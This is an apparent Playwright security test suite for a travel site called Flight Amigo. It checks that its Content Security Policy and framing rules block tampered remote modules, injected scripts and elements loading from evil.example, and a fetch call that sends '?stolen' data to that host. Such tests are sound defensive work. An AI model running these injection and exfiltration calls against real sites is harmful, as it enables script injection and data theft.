import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures/test.ts';

/** What the policy of a page has refused since it was opened. */
const watchViolations = (page: Page): Promise<unknown> =>
  page.addInitScript(() => {
    const refused: string[] = [];
    Object.assign(globalThis, { refused });
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => void refused.push(effectiveDirective));
  });
const violations = (page: Page): Promise<string[]> =>
  page.evaluate(() => (globalThis as unknown as { refused: string[] }).refused);

test('a remote whose entry was changed on its way is not run, and the rest of the site works (ASVS 3.6.1)', async ({
  page,
}) => {
  test.slow();
  await page.route('**/remotes/listings/**/remoteEntry*', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `document.title = 'taken over';${await response.text()}` });
  });
  await page.goto('/search');
  await expect(page.getByText('This part of Flight Amigo is not available right now')).toBeVisible({ timeout: 25_000 });
  await expect(page).toHaveTitle(/^(?!taken over)/);
  await page.getByRole('contentinfo').getByRole('link', { name: 'Terms of Use' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Terms of Use' })).toBeVisible();
});

test('code that gets into a page is not run, and reaches no other site (ASVS 3.4.3)', async ({ anotherBrowser }) => {
  const page = await anotherBrowser();
  await watchViolations(page);
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.evaluate(() => {
    const add = (name: string, attributes: Record<string, string>, text = ''): void => {
      const element = Object.assign(document.createElement(name), { textContent: text });
      for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
      document.body.append(element);
    };
    add('script', {}, 'document.title = "inline"');
    add('script', { src: 'https://evil.example/a.js' });
    add('img', { src: 'data:,', onerror: 'document.title = "handler"' });
    add('iframe', { src: 'https://evil.example/' });
    add('base', { href: 'https://evil.example/' });
    add('object', { data: 'https://evil.example/a.swf' });
  });
  await expect
    .poll(() => violations(page))
    .toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr', 'frame-src', 'base-uri', 'object-src']));
  await expect(page).toHaveTitle(/^Flight Amigo/);
  await page.evaluate(() => fetch('https://evil.example/?stolen').catch(() => undefined));
  await expect.poll(() => violations(page)).toContain('connect-src');
  await page.evaluate(() => void Reflect.apply(setTimeout, globalThis, ['document.title = "text as code"']));
  await expect.poll(() => violations(page)).toContain('script-src');
  await expect(page).toHaveTitle(/^Flight Amigo/);
});

test('no other site shows a page in a frame (ASVS 3.4.6)', async ({ page, baseURL }) => {
  const framing = `<iframe title="site" src="${baseURL}/profile"></iframe>`;
  await page.route('http://evil.example/', (route) => route.fulfill({ contentType: 'text/html', body: framing }));
  await page.goto('http://evil.example/');
  await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/');
});
